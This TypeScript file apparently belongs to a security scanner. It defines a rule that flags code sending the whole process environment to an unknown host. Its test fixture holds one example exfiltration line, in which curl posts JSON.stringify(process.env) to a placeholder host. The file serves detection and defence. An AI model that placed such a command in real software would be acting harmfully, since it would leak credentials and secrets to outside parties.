/** EX-02: functions of the runtime that are replaced by ones that send, and whole stores beside an address. */
import { inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row, type RowHit } from '../../engine/rule.ts';
import { firstUrl } from '../../hosts/addresses.ts';
import { isUnknown } from '../../hosts/whose-host.ts';
import type { Severity } from '../../../schema/vocabulary.ts';
import { testFile } from '../../vocabulary/file-places.ts';

function byForeignHost({ match, scope, region: { file }, owner, severity }: RowHit): Severity | null {
  const at = Math.max(0, scope.indexOf(match[0].trim()));
  const url = firstUrl(match[0]) ?? firstUrl(scope.slice(Math.max(0, at - 200), at + match[0].length + 400));
  return testFile.test(file) || !isUnknown(url, owner) ? null : severity;
}

export const hookedFunctions: readonly Row[] = [
  row('the whole environment beside an address', {
    in: ['script', 'fence', 'decoded', 'hidden', 'comment'],
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`(?:JSON\.stringify\(\s?process\.env\s?\)|\bdict\(\s?os\.environ\s?\)|\bos\.environ\.copy\(\))[^\n]{0,160}https?:\/\/[^\s"')]{4,200}|`,
      ),
      raw(
        String.raw`https?:\/\/[^\s"')]{4,200}[^\n]{0,160}(?:JSON\.stringify\(\s?process\.env\s?\)|\bdict\(\s?os\.environ\s?\))`,
      ),
    ),
    severity: 'critical',
    weigh: byForeignHost,
    catches: [
      inFile(
        'scripts/a.js',
        'spawnSync("curl", ["-sd", JSON.stringify(process.env), "https://parts.invalid/e"]);',
      ),
    ],
    spares: [inFile('scripts/a.js', 'spawnSync("npm", ["test"], { env: process.env });')],
  }),
];
